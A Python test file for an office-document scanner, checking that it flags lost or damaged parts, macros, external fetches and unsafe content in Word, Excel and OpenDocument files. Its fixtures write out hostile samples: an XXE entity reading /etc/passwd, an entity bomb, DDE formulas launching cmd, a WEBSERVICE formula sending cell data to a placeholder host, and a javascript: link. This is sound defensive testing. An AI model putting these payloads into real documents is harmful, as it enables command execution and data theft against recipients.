"""Parts of office documents: what is lost, what is irregular, what starts or fetches something from a hidden place."""

import zipfile

import pytest

from samples.checks.looking import codes, examine
from samples.checks.making import put, zip_of
from samples.checks.office import docx, relation, within
from samples.checks.ole import WORD, ole

RELATIONS = "word/_rels/document.xml.rels"
ODF = "application/vnd.oasis.opendocument."
BOMB = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def field(instruction: str) -> str:
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def workbook(tmp_path, sheet="<worksheet/>", types="", extra=None):
    parts = {
        "[Content_Types].xml": "<Types>"
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.sheet.main+xml"/>{types}</Types>',
        "_rels/.rels": within("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
        "xl/_rels/workbook.xml.rels": within("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": sheet,
        **(extra or {}),
    }
    kept = {name: content.encode() for name, content in parts.items() if content}
    return zip_of(tmp_path, kept, "sample.xlsx")


def opendocument(tmp_path, content="<a/>", extra=None, manifest='<m full-path="content.xml"/>', kind="text"):
    parts = {"mimetype": ODF + kind, "META-INF/manifest.xml": f"<m>{manifest}</m>", "content.xml": content}
    parts = {name: text.encode() for name, text in {**parts, **(extra or {})}.items() if text}
    return zip_of(tmp_path, parts, "sample.ods" if kind == "spreadsheet" else "sample.odt")


def test_a_whole_workbook_and_a_whole_opendocument_pass(tmp_path):
    assert examine(workbook(tmp_path), tmp_path)["verdict"] == "pass"
    assert examine(opendocument(tmp_path), tmp_path)["verdict"] == "pass"


@pytest.mark.parametrize("sheet", ["<worksheet><row>", ""])
def test_a_workbook_that_lost_a_sheet_cannot_be_opened(sheet, tmp_path):
    assert "OFF-006" in codes(examine(workbook(tmp_path, sheet), tmp_path))


def test_a_part_that_a_program_repairs_is_told_and_does_not_block(tmp_path):
    report = examine(workbook(tmp_path, extra={"xl/styles.xml": "<styleSheet>"}), tmp_path)
    assert (report["verdict"], codes(report)) == ("warn", {"OFF-009"})
    report = examine(opendocument(tmp_path, manifest='<m full-path="Pictures/1.png"/>'), tmp_path)
    assert (report["verdict"], codes(report)) == ("warn", {"OFF-009"})
    report = examine(docx(tmp_path, {"_rels/.rels": ""}), tmp_path)
    assert codes(report) == {"OFF-009"}


def test_a_settings_file_of_no_bytes_is_how_openoffice_writes_it(tmp_path):
    path = opendocument(tmp_path)
    with zipfile.ZipFile(path, "a") as container:
        container.writestr("Configurations2/accelerator/current.xml", b"")
    assert examine(path, tmp_path)["verdict"] == "pass"


def test_parts_that_lie_outside_or_in_a_folder_are_not_missed(tmp_path):
    links = {RELATIONS: within("hyperlink", "#top")}
    assert not codes(examine(docx(tmp_path, links), tmp_path))
    folder = '<m full-path="/"/><m full-path="Pictures/"/><m full-path="Object 1"/><m full-path="content.xml"/>'
    report = examine(opendocument(tmp_path, extra={"Object 1/content.xml": "<a/>"}, manifest=folder), tmp_path)
    assert codes(report) == {"OFF-005"}


@pytest.mark.parametrize("declared", [BOMB, OUTSIDE])
@pytest.mark.parametrize("part", ["word/document.xml", "[Content_Types].xml", RELATIONS, "word/styles.xml"])
def test_entities_in_any_part_are_told_and_never_expanded(declared, part, tmp_path):
    root = f"{declared}<Types>vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml</Types>"
    assert "XML-002" in codes(examine(docx(tmp_path, {part: root}), tmp_path))
    assert "XML-002" in codes(examine(opendocument(tmp_path, declared + "<a>&a;</a>"), tmp_path))


@pytest.mark.parametrize("instruction", ["INCLUDETEXT http://example.test/a", "LINK Excel.Sheet.8 a", "IMPORT a.png"])
def test_a_field_that_fetches_a_file_is_a_reference(instruction, tmp_path):
    assert "OFF-007" in codes(examine(docx(tmp_path, body=field(instruction)), tmp_path))


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [("vbaProject", "code.dat", "OFF-001"), ("aFChunk", "part.htm", "OFF-005"), ("oleObject", "x.dat", "OFF-005")],
)
def test_a_relation_tells_what_a_part_is_whatever_its_name(kind, target, code, tmp_path):
    parts = {RELATIONS: within(kind, target), f"word/{target}": "x"}
    assert code in codes(examine(docx(tmp_path, parts), tmp_path))


def test_a_link_that_runs_a_script_is_an_action_and_a_link_is_none(tmp_path):
    assert "OFF-008" in codes(examine(docx(tmp_path, relation("hyperlink", "javascript:alert(1)")), tmp_path))
    assert "OFF-008" not in codes(examine(docx(tmp_path, relation("hyperlink", "https://example.test/")), tmp_path))


def test_a_macro_sheet_is_known_by_its_type(tmp_path):
    types = '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    assert "OFF-001" in codes(examine(workbook(tmp_path, types=types), tmp_path))


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("cmd|'/c calc'!A0", "OFF-003"),
        ("1+DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)", "OFF-003"),
        ("_xlfn.WEBSERVICE(&quot;http://example.test/&quot;&amp;A1)", "OFF-007"),
    ],
)
def test_a_formula_that_calls_or_asks_is_told_in_both_kinds_of_sheet(formula, code, tmp_path):
    assert code in codes(examine(workbook(tmp_path, f"<worksheet><f>{formula}</f></worksheet>"), tmp_path))
    content = f'<a xmlns:t="t"><t:c t:formula="of:={formula}"/></a>'
    assert code in codes(examine(opendocument(tmp_path, content, kind="spreadsheet"), tmp_path))


def test_a_bar_within_quotation_marks_calls_nothing(tmp_path):
    sheet = '<worksheet><f>IF(A1="a|b",Sheet2!B1,0)</f></worksheet>'
    assert not codes(examine(workbook(tmp_path, sheet), tmp_path))


def test_damaged_compression_of_a_document_is_told_as_such(tmp_path):
    path = opendocument(tmp_path, manifest='<m full-path="content.xml"/>' + "<m/>" * 300)
    content = bytearray(path.read_bytes())
    begin = content.find(b"META-INF/manifest.xml") + 21
    content[begin + 4 : begin + 20] = b"\xff" * 16
    assert "OFF-006" in codes(examine(put(tmp_path, "bad.odt", bytes(content)), tmp_path))


def test_a_docx_whose_directory_is_lost_is_refused_and_not_left_to_a_person(tmp_path):
    whole = docx(tmp_path, {"word/styles.xml": "<a/>"}, body="x" * 3000).read_bytes()
    assert examine(put(tmp_path, "cut.docx", whole[:-1]), tmp_path)["verdict"] == "fail"


def test_binary_documents_need_their_main_stream_and_its_table(tmp_path):
    assert "OFF-006" not in codes(examine(ole(tmp_path, "a.doc", {"WordDocument": WORD, "1Table": b""}), tmp_path))
    for streams in ({"WordDocument": WORD}, {"WordDocument": bytes(4096), "1Table": b""}, {"SomethingElse": b""}):
        assert "OFF-006" in codes(examine(ole(tmp_path, "a.doc", streams), tmp_path))


def test_a_binary_document_with_a_damaged_directory_or_table_is_told(tmp_path):
    whole = ole(tmp_path, "a.doc", {"WordDocument": WORD, "1Table": b""}).read_bytes()
    for begin, end in ((512, 1024), (1024, 1536)):
        content = whole[:begin] + bytes(end - begin) + whole[end:]
        assert "OFF-006" in codes(examine(put(tmp_path, "b.doc", content), tmp_path))


def test_slides_whose_records_do_not_follow_each_other_are_irregular(tmp_path):
    record = b"\x0f\0\xe8\x03" + (4088).to_bytes(4, "little") + bytes(4088)
    assert "OFF-009" not in codes(examine(ole(tmp_path, "a.ppt", {"PowerPoint Document": record}), tmp_path))
    broken = record[:4] + (100).to_bytes(4, "little") + bytes(4088)
    assert "OFF-009" in codes(examine(ole(tmp_path, "b.ppt", {"PowerPoint Document": broken}), tmp_path))


def test_a_notebook_shorter_than_its_header_says_is_cut(tmp_path):
    head = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3").ljust(196, b"\1")
    whole = head + (1024).to_bytes(8, "little")
    assert "OFF-006" not in codes(examine(put(tmp_path, "a.one", whole.ljust(1024, b"\1")), tmp_path))
    assert "OFF-006" in codes(examine(put(tmp_path, "b.one", whole.ljust(1000, b"\1")), tmp_path))
